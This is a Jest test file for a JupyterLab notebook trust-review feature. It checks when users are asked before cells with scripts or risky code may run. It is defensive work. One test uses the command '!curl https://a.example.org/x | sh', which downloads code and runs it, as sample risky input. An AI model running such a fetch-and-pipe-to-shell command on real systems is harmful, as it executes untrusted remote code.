import type { NotebookPanel } from '@jupyterlab/notebook';
import {
  RenderMimeRegistry,
  standardRendererFactories
} from '@jupyterlab/rendermime';
import { nullTranslator } from '@jupyterlab/translation';

import { toContents } from '../../notebook/testing/memorycontents';
import { MemoryDrive } from '../../notebook/testing/memorydrive';
import {
  htmlNotebook,
  watchNotebook
} from '../../notebook/testing/opennotebook';
import { PageEngine } from '../../notebook/testing/pageengine';
import type { TrustKind } from '../../ui/trust/trustbuttons';
import type { ReviewOptions, TrustChoice } from '../../ui/trust/trustdialog';
import { RunReview } from './runreview';
import { type OpenNotebook, TrustReviews } from './trustreviews';

const SCRIPT = '<script>a()</script>';
const LOOK = '<style>a {}</style>';
const CALM = '<b>a</b>';

const rendermime = new RenderMimeRegistry({
  initialFactories: standardRendererFactories
});

const asked = jest.fn<Promise<TrustChoice>, [ReviewOptions]>();

interface Opened {
  readonly notebook: OpenNotebook;
  /** Whether the cells at these indexes may run, by default all. */
  mayRun(indexes?: readonly number[]): Promise<boolean>;
}

const open = (htmls: readonly string[]): Opened => {
  const { client: engine } = new PageEngine();
  const contents = toContents(new MemoryDrive());
  const watch = watchNotebook(htmlNotebook(htmls), 'n.ipynb', engine, contents);
  const panel = { content: { rendermime } } as unknown as NotebookPanel;
  const trans = nullTranslator.load('nbwarden');
  const review = new RunReview(new TrustReviews({ engine, trans, ask: asked }));
  return {
    notebook: { panel, watch },
    mayRun: indexes => {
      const cells = [...watch.model.cells].filter(
        (_, index) => indexes?.includes(index) ?? true
      );
      return review.mayRun({ panel, watch }, cells);
    }
  };
};

/** What a person chooses, one after the other. */
const answer = (...choices: (readonly [TrustKind])[]): void =>
  choices.forEach(([kind]) => asked.mockResolvedValueOnce({ kind, cells: [] }));

// A model warns of what it reads before its document is there.
beforeAll(() => jest.spyOn(console, 'warn').mockImplementation());
beforeEach(() => asked.mockReset());
afterAll(() => jest.restoreAllMocks());

it('asks where there is something to tell of, once', async () => {
  const { mayRun } = open([SCRIPT]);
  answer(['leave'], ['run']);
  expect(await mayRun()).toBe(false);
  expect(await mayRun()).toBe(true);
  expect(await mayRun()).toBe(true);
  expect(asked).toHaveBeenCalledTimes(2);
});

it('tells of the cells that would run, and asks again for others', async () => {
  const { mayRun } = open([SCRIPT, CALM, SCRIPT]);
  answer(['run'], ['leave']);
  expect(await mayRun([0, 1])).toBe(true);
  expect(await mayRun([1])).toBe(true);
  expect(await mayRun()).toBe(false);
  expect(
    asked.mock.calls.map(([{ review }]) =>
      review.changes.map(({ cell }) => cell)
    )
  ).toEqual([[0], [2]]);
});

it('asks nothing where nothing acts, or all that runs is trusted', async () => {
  expect(await open([LOOK]).mayRun()).toBe(true);
  const { notebook, mayRun } = open([SCRIPT, SCRIPT]);
  notebook.watch.model.cells.get(0).trusted = true;
  expect(await mayRun([0])).toBe(true);
  expect(asked).not.toHaveBeenCalled();
});

it('asks for risky code alone', async () => {
  const { notebook, mayRun } = open([CALM]);
  const [cell] = notebook.watch.model.cells;
  cell.sharedModel.setSource('!curl https://a.example.org/x | sh');
  answer(['leave']);
  expect(await mayRun()).toBe(false);
});

it('runs nothing that could not be reviewed', async () => {
  const { notebook, mayRun } = open([SCRIPT]);
  const { sharedModel } = notebook.watch.model.cells.get(0);
  jest.spyOn(sharedModel, 'getSource').mockImplementation(() => {
    throw new Error('a');
  });
  expect(await mayRun()).toBe(false);
  expect(asked).not.toHaveBeenCalled();
});
